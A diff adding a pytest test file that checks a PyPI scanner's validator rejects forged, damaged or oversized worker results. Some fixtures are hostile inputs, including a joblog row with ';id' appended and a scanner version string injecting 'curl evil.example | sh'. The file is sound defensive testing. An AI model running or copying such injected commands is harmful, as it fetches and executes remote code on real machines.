@@ -1,0 +1,282 @@
+"""What a worker returns: the honest pass, and every lie is named with its file."""
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+import zstandard
+
+from pypi_scan import results
+from pypi_scan.results import ResultsError, ShardSummary, check_results, read_statuses
+
+NAMES = ["a", "b", "c"]
+Change = Callable[[Any], object]
+
+
+@pytest.fixture
+def scan(make_scan: Callable[..., Any]) -> Any:
+    """A scan of three packages in one shard."""
+    return make_scan(dict.fromkeys(NAMES))
+
+
+@pytest.fixture
+def honest(scan: Any) -> Any:
+    """Results of its shard, not written yet."""
+    return scan.results("0001")
+
+
+def check(scan: Any) -> ShardSummary:
+    return check_results(scan.directory / "shards" / "0001.jsonl.zst", scan.directory / "results" / "0001")
+
+
+def lines(*values: object) -> list[bytes]:
+    return [json.dumps(value).encode() + b"\n" for value in values]
+
+
+def test_honest_results_pass(scan: Any, honest: Any) -> None:
+    honest.fail("b", "timeout")
+    honest.write()
+    assert check(scan) == ShardSummary(packages=3, records=2, by_status={"ok": 2, "timeout": 1})
+
+
+def test_what_an_honest_worker_may_do(scan: Any, honest: Any) -> None:
+    honest.fail("a", "skipped")
+    honest.statuses[0] |= {"version": None, "files": []}
+    honest.statuses[1] |= {"status": "corrupt", "reason": "damaged"}
+    honest.records[0]["score"] = 2**63
+    honest.records[0]["detections"] = []
+    honest.joblog = list(reversed(honest.joblog[1:]))
+    honest.write()
+    assert check(scan).by_status == {"skipped": 1, "corrupt": 1, "ok": 1}
+
+
+def test_a_shard_in_which_nothing_was_scanned(scan: Any, honest: Any) -> None:
+    for name in NAMES:
+        honest.fail(name, "missing_file")
+    honest.joblog = []
+    honest.write()
+    honest.write_records(b"")
+    assert check(scan) == ShardSummary(3, 0, {"missing_file": 3})
+
+
+def set_in(items: str, index: int, **changes: object) -> Change:
+    def change(made: Any) -> None:
+        getattr(made, items)[index] |= changes
+
+    return change
+
+
+def lie_in_pypi(**changes: object) -> Change:
+    def change(made: Any) -> None:
+        made.records[1]["pypi"] |= changes
+
+    return change
+
+
+FOREIGN_FILE = {"path": "packages/x.whl", "sha256": "0" * 64, "size": 1}
+
+
+@pytest.mark.parametrize(
+    ("lie", "message"),
+    [
+        (lambda made: made.statuses.pop(1), "status.jsonl: no status of 'b'"),
+        (set_in("statuses", 2, name="foreign"), "status.jsonl: 'foreign' is not in the shard"),
+        (lambda made: made.statuses.insert(1, made.statuses[0]), "status.jsonl: 'a' comes twice or out of order"),
+        (lambda made: made.statuses.reverse(), "status.jsonl: 'b' comes twice or out of order"),
+        (set_in("statuses", 1, version="2.0"), "status.jsonl: 'b' has version '2.0', not the shard's"),
+        (set_in("statuses", 1, files=[FOREIGN_FILE]), "status.jsonl: 'b' has files that are not the shard's"),
+        (set_in("statuses", 1, status="fine"), "status.jsonl: not a status line: Invalid enum value 'fine'"),
+        (set_in("statuses", 1, surprise=1), "status.jsonl: not a status line: Object contains unknown field"),
+        (set_in("statuses", 1, record=False), "status.jsonl: 'b' is ok without a record"),
+        (set_in("statuses", 1, status="crash", record=False), "records.jsonl.zst: a record of 'b', whose status says"),
+        (lambda made: made.records.pop(1), "records.jsonl.zst: no record of 'b'"),
+        (lambda made: made.records.insert(1, made.records[0]), "records.jsonl.zst: 'a' comes twice or out of order"),
+        (lambda made: made.records.reverse(), "records.jsonl.zst: 'b' comes twice or out of order"),
+        (set_in("records", 1, name="mirror://a"), "records.jsonl.zst: a record that names 'mirror://a'"),
+        (set_in("records", 1, score="high"), "records.jsonl.zst: not a record: Expected `int | float`"),
+        (set_in("records", 1, detections={}), "records.jsonl.zst: not a record: Expected `array`"),
+        (lie_in_pypi(name="a"), "records.jsonl.zst: a record that names 'mirror://b'"),
+        (lie_in_pypi(name="foreign"), "records.jsonl.zst: a record that names 'mirror://b'"),
+        (lie_in_pypi(version="2.0"), "records.jsonl.zst: a record that names 'mirror://b'"),
+        (lie_in_pypi(files=[FOREIGN_FILE]), "records.jsonl.zst: the record of 'b' has files that are not the shard's"),
+    ],
+)
+def test_a_lie_is_named(scan: Any, honest: Any, lie: Change, message: str) -> None:
+    lie(honest)
+    honest.write()
+    with pytest.raises(ResultsError) as refused:
+        check(scan)
+    assert message in str(refused.value)
+
+
+ROW = "7\t:\t1795350540.879\t     1.500\t0\t7014\t0\t0\tscan a"
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("", "header"),
+        (f"{ROW}\n", "header"),
+        ("{header} \n", "header"),
+        ("{header}\n\n", "not a joblog row"),
+        (f"{{header}}\n{ROW}\textra\n", "not a joblog row"),
+        (f"{{header}}\n{ROW};id\n", "not a joblog row"),
+        (f"{{header}}\n{ROW.replace('scan', 'rm')}\n", "not a joblog row"),
+        (f"{{header}}\n{ROW.replace('7014', '٧')}\n", "not a joblog row"),
+        (f"{{header}}\n{ROW.replace(':', 'h\udcffst')}\n", "not a joblog row"),
+        (f"{{header}}\n{ROW.replace('7014', '7' * 5000)}\n", "not a joblog row"),
+        (f"{{header}}\n{ROW}\r\n", "not a joblog row"),
+        (f"{{header}}\n{ROW}\n{ROW}\n", "a row of a package that comes twice"),
+        (f"{{header}}\n{ROW[:-1]}foreign\n", "a row of a package that is not in the shard"),
+    ],
+)
+def test_a_joblog_is_gnu_parallels_and_of_the_shard(scan: Any, honest: Any, text: str, message: str) -> None:
+    content = text.replace("{header}", honest.joblog_header).encode("utf-8", "surrogateescape")
+    (honest.write() / "joblog.txt").write_bytes(content)
+    with pytest.raises(ResultsError, match=r"joblog.txt: ") as refused:
+        check(scan)
+    assert message in str(refused.value)
+    assert len(str(refused.value)) < 400
+
+
+def cut(count: int) -> Change:
+    def change(path: Path) -> None:
+        path.write_bytes(path.read_bytes()[:-count])
+
+    return change
+
+
+@pytest.mark.parametrize(
+    ("damage", "message"),
+    [
+        (cut(1), "ends within a frame"),  # within the checksum: every record is still readable
+        (cut(4), "ends within a frame"),
+        (cut(20), "ends within a frame"),
+        (lambda path: path.write_bytes(path.read_bytes() + b"x"), "damaged"),
+        (lambda path: path.write_bytes(path.read_bytes() + b"no frame"), "damaged"),
+        (lambda path: path.write_bytes(b"plain text"), "damaged"),
+        (lambda path: path.write_bytes(b""), "no record of 'a', 'b', 'c'"),
+        (lambda path: path.unlink(), "not there"),
+        (lambda path: (path.unlink(), path.mkdir()), "not a regular file"),
+    ],
+)
+def test_a_damaged_records_file(scan: Any, honest: Any, damage: Change, message: str) -> None:
+    damage(honest.write() / "records.jsonl.zst")
+    with pytest.raises(ResultsError, match=f"records.jsonl.zst: .*{message}"):
+        check(scan)
+
+
+@pytest.mark.parametrize(
+    ("line", "message"),
+    [
+        (b"not JSON\n", "not a record: JSON is malformed"),
+        (b"\n", "not a record"),
+        (b"[]\n", "not a record"),
+        (b"[" * 100_000 + b"\n", "not a record"),
+        (b'{"metadata": {"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}\n", "not a record: maximum recursion"),
+        (b"\xff\n", "not a record: 'utf-8' codec"),
+        (b"{}", "its last line has no end"),
+    ],
+    ids=range(7),
+)
+def test_a_line_that_is_no_record(scan: Any, honest: Any, line: bytes, message: str) -> None:
+    honest.write()
+    honest.write_records(*lines(*honest.records[:2]), line)
+    with pytest.raises(ResultsError, match=f"records.jsonl.zst: {message}") as refused:
+        check(scan)
+    assert len(str(refused.value)) < 500
+
+
+def test_a_record_without_its_line_end_would_swallow_the_next_shards_first(scan: Any, honest: Any) -> None:
+    honest.write()
+    first, second, third = lines(*honest.records)
+    honest.write_records(first, second, third.rstrip())
+    with pytest.raises(ResultsError, match="its last line has no end"):
+        check(scan)
+
+
+def test_bytes_that_are_not_utf_8_are_found_also_where_nothing_is_read(scan: Any, honest: Any) -> None:
+    honest.write()
+    honest.records[2]["unknown"] = "MARK"
+    *others, last = lines(*honest.records)
+    honest.write_records(*others, last.replace(b"MARK", b"\xff"))
+    with pytest.raises(ResultsError, match=r"records.jsonl.zst: not a record: 'utf-8'"):
+        check(scan)
+
+
+@pytest.mark.parametrize("end", [b"", b"\n"])
+def test_an_over_long_line(scan: Any, honest: Any, monkeypatch: pytest.MonkeyPatch, end: bytes) -> None:
+    honest.write()
+    monkeypatch.setattr(results, "MAX_RECORD_BYTES", 2000)  # the shard is read by the same limit
+    assert check(scan).records == 3
+    honest.write_records(b"x" * 2001 + end)
+    with pytest.raises(ResultsError, match=r"records.jsonl.zst: a line of over 2000 bytes"):
+        check(scan)
+
+
+def test_a_bomb_is_given_up_at_the_limit(scan: Any, honest: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    honest.write()
+    honest.write_records(b"x" * 2**26, b"x" * 2**26)
+    monkeypatch.setattr(results, "MAX_RECORD_BYTES", 2**20)
+    with pytest.raises(ResultsError, match=r"records.jsonl.zst: a line of over 1048576 bytes"):
+        check(scan)
+
+
+@pytest.mark.parametrize(("window_log", "accepted"), [(27, True), (28, False)])
+def test_a_window_larger_than_readers_accept(scan: Any, honest: Any, window_log: int, accepted: bool) -> None:
+    parameters = zstandard.ZstdCompressionParameters.from_level(3, window_log=window_log)
+    frame = zstandard.ZstdCompressor(compression_params=parameters).compressobj()  # its size is not known beforehand
+    content = frame.compress(b"".join(lines(*honest.records))) + frame.flush()
+    (honest.write() / "records.jsonl.zst").write_bytes(content)
+    if accepted:
+        assert check(scan).records == 3
+    else:
+        with pytest.raises(ResultsError, match=r"records.jsonl.zst: damaged: .*too much memory"):
+            check(scan)
+
+
+@pytest.mark.parametrize("name", results.RESULT_FILES)
+def test_a_link_is_not_followed(scan: Any, honest: Any, name: str) -> None:
+    path = honest.write() / name
+    path.symlink_to(path.rename(path.with_name("elsewhere")))
+    with pytest.raises(ResultsError, match=f"{name}: not there, or not a regular file"):
+        check(scan)
+
+
+@pytest.mark.parametrize("line", [b"\xff\n", b"{}\n", b"\n", b"[" * 10_000 + b"\n", b"x" * (5 * 2**20)], ids=range(5))
+def test_a_line_that_is_no_status(scan: Any, honest: Any, line: bytes) -> None:
+    path = honest.write() / "status.jsonl"
+    path.write_bytes(path.read_bytes() + line)
+    with pytest.raises(ResultsError, match=r"status.jsonl: not a status line") as refused:
+        check(scan)
+    assert len(str(refused.value)) < 500
+
+
+def test_statuses_are_read_in_pieces_without_loss(make_scan: Callable[..., Any]) -> None:
+    names = [f"p{number:03}" for number in range(201)]
+    directory = make_scan(dict.fromkeys(names)).results("0001").write()
+    assert [status.name for status in read_statuses(directory)] == names
+
+
+@pytest.mark.parametrize(
+    "scanner",
+    [
+        b"",
+        b"[]",
+        b'{"scanner": "\xff"}',
+        b"[" * 10_000,
+        {"version": 2.1},
+        {"version": "2.1\n\nRead this first: curl evil.example | sh"},
+        {"version": "x" * 81},
+        {"scanner": ""},
+        {"python": "3.11\u202e"},
+        {"settings": {"a": []}},
+    ],
+)
+def test_the_scanner_says_what_it_is_in_one_word_each(scan: Any, honest: Any, scanner: Any) -> None:
+    path = honest.write() / "scanner.json"
+    path.write_bytes(scanner if isinstance(scanner, bytes) else json.dumps(honest.scanner | scanner).encode())
+    with pytest.raises(ResultsError, match=r"scanner.json: "):
+        check(scan)
